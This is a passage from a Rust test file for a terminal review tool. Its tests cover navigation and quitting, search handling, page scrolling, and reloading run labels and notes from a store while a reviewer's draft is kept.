    cmd(&mut app, C::Back);
    assert!(app.quit, "q in the run opened directly quits");
    // Opened from the list, q goes back to it.
    let mut app = app_in_run(20);
    cmd(&mut app, C::Back);
    assert!(!app.quit);
    assert_eq!(app.screen, Screen::List);
}

#[test]
fn esc_with_a_search_on_ends_the_search_and_stays_in_the_run() {
    let mut app = app_in_run(20);
    app.direct = Some(2);
    app.update(Action::SearchDone { query: "needle".into(), steps: vec![4, 9] });
    cmd(&mut app, C::Back);
    assert!(!app.quit && app.screen == Screen::Run, "the search ends first");
    assert!(app.run.as_ref().is_some_and(|r| r.search.is_none()));
    cmd(&mut app, C::Back);
    assert!(app.quit);
}

#[test]
fn space_and_b_scroll_the_step_body_a_page() {
    let mut app = app_in_run(20);
    if let Some(run) = app.run.as_mut() {
        run.panel_rows = 18;
    }
    cmd(&mut app, C::BodyPageDown);
    assert_eq!(app.run.as_ref().map(|r| r.scroll), Some(16), "a page less two lines");
    cmd(&mut app, C::ScrollDown);
    assert_eq!(app.run.as_ref().map(|r| r.scroll), Some(19));
    cmd(&mut app, C::BodyPageUp);
    assert_eq!(app.run.as_ref().map(|r| r.scroll), Some(3));
}

mod onset;

/// The store's labels stamped every few seconds: the first stamp is only remembered; a changed
/// one reads again every run's review state and the open run's labels and notes; those replace
/// the run's, its evidence with them, while a draft being made stays. `ctrl-r` does it now (and
/// reads the run list again).
#[test]
fn labels_changed_in_the_store_are_read_again() {
    let mut app = app_in_run(10);
    app.review.rater = "ann".into();
    app.review.blind = false;
    assert_eq!(app.update(Action::Tick), vec![Effect::CheckReview]);
    assert!(app.update(Action::ReviewStamp("1 1 0 0 ".into())).is_empty(), "the first stamp is remembered");
    assert!(app.update(Action::ReviewStamp("1 1 0 0 ".into())).is_empty(), "nothing changed");
    // The reviewer is making a label meanwhile.
    cmd(&mut app, C::ToggleMode2);
    let draft = app.run.as_ref().map(|r| r.draft.clone());
    let effects = app.update(Action::ReviewStamp("2 7 0 0 ".into()));
    assert!(effects.iter().any(|e| matches!(e, Effect::LoadReview { rater, .. } if rater == "ann")), "{effects:?}");
    assert!(effects.contains(&Effect::LoadRunLabels(2)), "{effects:?}");
    let note = crate::store::notes::NoteRow {
        id: 3,
        run_id: 2,
        instance_id: None,
        step: 4,
        rater: "bob".into(),
        text: "here".into(),
        created_at: String::new(),
    };
    app.update(Action::RunLabelsLoaded {
        run: 2,
        labels: vec![heuristic_label(2, "context_flooding")],
        notes: vec![note],
    });
    let run = app.run.as_ref().unwrap_or_else(|| panic!("the run is open"));
    assert_eq!(run.data.labels.len(), 1);
    assert!(run.is_evidence(2), "the new label's evidence is marked");
    assert_eq!(run.notes_of(4).count(), 1, "the new note is there");
    assert_eq!(Some(run.draft.clone()), draft, "the draft being made stays");
    // Labels of another run (the reviewer moved on) change nothing.
    app.update(Action::RunLabelsLoaded { run: 9, labels: Vec::new(), notes: Vec::new() });
    assert_eq!(app.run.as_ref().map(|r| r.data.labels.len()), Some(1));
    let effects = cmd(&mut app, C::Refresh);
    assert!(effects.contains(&Effect::LoadAllRuns) && effects.contains(&Effect::LoadRunLabels(2)), "{effects:?}");
}
